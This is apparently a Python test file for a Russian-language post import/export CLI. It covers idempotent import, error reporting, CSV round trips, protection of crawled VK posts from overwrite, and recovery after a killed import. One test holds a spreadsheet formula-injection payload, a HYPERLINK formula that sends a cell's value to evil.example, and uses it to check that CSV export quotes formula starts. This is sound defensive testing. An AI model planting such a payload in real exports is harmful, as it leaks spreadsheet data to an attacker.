"""`cur import` and `cur export posts` as a user runs them, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import subprocess
import time
from pathlib import Path

from sqlalchemy import select

from storage import Database
from storage.models import Post
from tests.conftest import CUR, run_cur


def write_jsonl(path: Path, rows: list[dict | str]) -> Path:
    with path.open("w", encoding="utf-8") as f:
        for r in rows:
            f.write((r if isinstance(r, str) else json.dumps(r, ensure_ascii=False)) + "\n")
    return path


def post(i: int, text: str = "В подъезде опять не горит свет", **kw) -> dict:
    return {"id": str(i), "source": "pos:export", "author": f"Житель {i}", "date": f"2026-11-{10 + i % 10:02d}T08:00:00+07:00",
            "text": text, "url": f"https://example.org/appeal/{i}", **kw}


def db_posts(url: str) -> list[tuple]:
    db = Database(url)
    with db.session() as s:
        rows = [(p.platform, p.source_key, p.external_id, p.text, p.published_at.isoformat(), p.author, p.url)
                for p in s.scalars(select(Post).order_by(Post.platform, Post.source_key, Post.external_id))]
    db.dispose()
    return rows


def test_import_is_idempotent_and_survives_bad_lines(cur, tmp_path, db_url):
    f = write_jsonl(tmp_path / "posts.jsonl", [
        post(1),
        "{this is not json",
        post(2, "Яма на дороге у школы"),
        {"id": "3", "source": "pos:export", "text": "нет даты"},
        post(4, date="31.02.2026"),
        post(5, "Мусор не вывозят неделю"),
        post(6, url="ftp://nowhere"),
    ])
    r = cur("import", "--quiet", str(f))
    assert r.returncode == 4, r.stderr  # some lines were bad
    assert "новых постов 3" in r.stdout
    assert "пропущено строк с ошибками 4" in r.stdout
    assert "строка 2: не JSON" in r.stderr
    assert "строка 4, поле «date»: поле отсутствует или пусто" in r.stderr
    assert "строка 5, поле «date»: не дата: '31.02.2026'" in r.stderr
    assert "строка 7, поле «url»" in r.stderr
    first = db_posts(db_url)
    assert [p[2] for p in first] == ["1", "2", "5"]
    assert first[0][4] == "2026-11-11T01:00:00+00:00"  # +07:00 stored as UTC

    again = cur("import", "--quiet", str(f))
    assert "новых постов 0" in again.stdout and "уже загруженных 3" in again.stdout
    assert db_posts(db_url) == first


def test_import_csv_with_multiline_text_and_local_times(cur, tmp_path, db_url):
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(["id", "source", "author", "date", "text", "url"])
    w.writerow(["a1", "pos:csv", "Иван", "2026-11-16 09:30", "Во дворе\nзатопило подвал,\nвонь", ""])
    w.writerow(["a2", "pos:csv", "", "2026-11-16 10:00", "", ""])
    w.writerow(["a3", "pos:csv", "Ольга", "1763280000", "Нет воды", ""])
    (tmp_path / "posts.csv").write_text(buf.getvalue(), encoding="utf-8")
    r = cur("import", "--quiet", str(tmp_path / "posts.csv"))
    assert "строка 5, поле «text»: пустой текст" in r.stderr, r.stderr  # the multi-line record takes lines 2-4
    rows = db_posts(db_url)
    assert [x[2] for x in rows] == ["a1", "a3"]
    assert rows[0][3] == "Во дворе\nзатопило подвал,\nвонь"
    # the default region is Kuzbass (UTC+7): a local time without zone is read in it
    assert rows[0][4] == "2026-11-16T02:30:00+00:00"


def test_import_refuses_unknown_format_and_missing_columns(cur, tmp_path):
    (tmp_path / "posts.xml").write_text("<x/>")
    r = cur("import", str(tmp_path / "posts.xml"))
    assert r.returncode == 1 and "неизвестный формат файла" in r.stderr
    (tmp_path / "p.csv").write_text("id,text\n1,hello\n")
    r = cur("import", "--quiet", str(tmp_path / "p.csv"))
    assert "в заголовке CSV нет обязательных столбцов" in r.stderr and "source, date" in r.stderr


def test_export_round_trips_through_import(cur, tmp_path, db_url):
    f = write_jsonl(tmp_path / "posts.jsonl", [post(i, f"Текст {i}, «кавычки», запятые") for i in range(1, 6)])
    assert cur("import", "--quiet", str(f)).returncode == 0
    for fmt in ("jsonl", "csv"):
        out = tmp_path / f"out.{fmt}"
        r = cur("export", "posts", "--format", fmt, "--output", str(out))
        assert r.returncode == 0, r.stderr
        if fmt == "jsonl":
            rows = [json.loads(x) for x in out.read_text(encoding="utf-8").splitlines()]
        else:
            rows = list(csv.DictReader(out.open(encoding="utf-8")))
        assert sorted(r["id"] for r in rows) == ["1", "2", "3", "4", "5"]
        assert {r["text"] for r in rows} == {f"Текст {i}, «кавычки», запятые" for i in range(1, 6)}
        again = cur("import", "--quiet", str(out))
        assert "новых постов 0" in again.stdout and "уже загруженных 5" in again.stdout, again.stdout + again.stderr


def test_export_posts_csv_is_formula_quoted_and_reads_back(cur, tmp_path, db_url):
    """CSV export quotes formula starts (pipeline.cells); `cur import` undoes the quoting: same posts in a new base."""
    texts = ['=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")', "+7 999 1+1", "'=уже с апострофом", "'просто апостроф",
             "-2+3", "@SUM(1)", "Обычный текст"]
    rows = [post(i, t, author=("=Автор" if i == 1 else f"Житель {i}")) for i, t in enumerate(texts, 1)]
    f = write_jsonl(tmp_path / "posts.jsonl", rows)
    assert cur("import", "--quiet", str(f)).returncode == 0
    before = db_posts(db_url)
    out = tmp_path / "out.csv"
    assert cur("export", "posts", "--format", "csv", "--output", str(out)).returncode == 0
    cells = {r["id"]: r for r in csv.DictReader(out.open(encoding="utf-8"))}
    assert cells["1"]["text"].startswith("'=HYPERLINK") and cells["1"]["author"] == "'=Автор"
    assert cells["3"]["text"] == "''=уже с апострофом" and cells["4"]["text"] == "'просто апостроф"
    assert cells["7"]["text"] == "Обычный текст"
    assert not any(c[:1] in "=+-@" for r in cells.values() for c in r.values() if c)
    again = cur("import", "--quiet", str(out))
    assert "изменённых 0" in again.stdout and "уже загруженных 7" in again.stdout, again.stdout + again.stderr
    assert db_posts(db_url) == before  # not one text or author changed by the round trip


def test_file_never_overwrites_a_crawled_vk_post(cur, tmp_path, db_url):
    """A file line naming a post a VK source collected is refused with a named Russian warning; the crawled text stays."""
    from datetime import datetime, timezone

    from storage import PostRecord, upsert_posts
    from storage.sources import get_or_create_source

    db = Database(db_url)
    with db.session() as s:
        src, _ = get_or_create_source(s, "vk", "wall", "-100")
        crawled = PostRecord(platform="vk", source_key="vk:-100", external_id="7", text="Нет отопления на Весенней, 12",
                             published_at=datetime(2026, 11, 12, tzinfo=timezone.utc))
        upsert_posts(s, [crawled], source_id=src.id)
    f = write_jsonl(tmp_path / "spoof.jsonl", [
        post(1, "Обычное обращение из файла"),
        {**post(2, "Подменённый текст: всё починили"), "platform": "vk", "source": "vk:-100", "id": "7"},
        {**post(3, "Новый пост ВКонтакте из файла"), "platform": "vk", "source": "vk:-100", "id": "8"},
    ])
    r = cur("import", "--quiet", str(f))
    assert r.returncode != 0  # a skipped line makes the run partial
    assert "строка 2, поле «id»: пост '7' источника 'vk:-100' собран из ВКонтакте: файл не может изменить его текст" in r.stderr, r.stderr
    assert "новых постов 2" in r.stdout and "изменённых 0" in r.stdout and "пропущено строк с ошибками 1" in r.stdout, r.stdout
    texts = {(p[0], p[2]): p[3] for p in db_posts(db_url)}
    assert texts[("vk", "7")] == "Нет отопления на Весенней, 12"
    assert texts[("vk", "8")] == "Новый пост ВКонтакте из файла" and texts[("file", "1")] == "Обычное обращение из файла"
    with db.session() as s:  # a crawl that later meets the file's vk post takes it over; then files cannot change it either
        upsert_posts(s, [PostRecord(platform="vk", source_key="vk:-100", external_id="8", text="Новый пост ВКонтакте из файла",
                                    published_at=datetime(2026, 11, 13, tzinfo=timezone.utc))], source_id=src.id)
    db.dispose()
    f2 = write_jsonl(tmp_path / "spoof2.jsonl", [{**post(3, "Снова подмена"), "platform": "vk", "source": "vk:-100", "id": "8"}])
    r = cur("import", "--quiet", str(f2))
    assert "строка 1, поле «id»: пост '8'" in r.stderr and "изменённых 0" in r.stdout
    assert {(p[0], p[2]): p[3] for p in db_posts(db_url)}[("vk", "8")] == "Новый пост ВКонтакте из файла"


def test_import_killed_midway_then_rerun_equals_uninterrupted(tmp_path, cur_env, db_url, sqlite_url):
    """kill -9 during a large import (after its first batch of 1,000 is committed, 5,000 still to come), run it again:
    same database as one clean run."""
    rows = [post(i, f"Обращение номер {i}: не убирают снег во дворе") for i in range(6000)]
    f = write_jsonl(tmp_path / "big.jsonl", rows)
    env = dict(cur_env)
    proc = subprocess.Popen([CUR, "import", "--quiet", str(f)], env=env, cwd=tmp_path,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    db = Database(db_url)
    deadline = time.time() + 60
    while time.time() < deadline:
        with db.session() as s:
            n = len(s.scalars(select(Post.id)).all())
        if n >= 1000:
            break
        time.sleep(0.05)
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait()
    db.dispose()
    partial = len(db_posts(db_url))
    assert 0 < partial < 6000, partial
    # the rerun and the clean run: the same command in this process (the killed one above is a real process)
    r = run_cur(["import", "--quiet", str(f)], env=env, cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    clean = run_cur(["import", "--quiet", str(f)], env=dict(env, CUR_DATABASE_URL=sqlite_url), cwd=tmp_path)
    assert clean.returncode == 0, clean.stderr
    assert db_posts(db_url) == db_posts(sqlite_url)
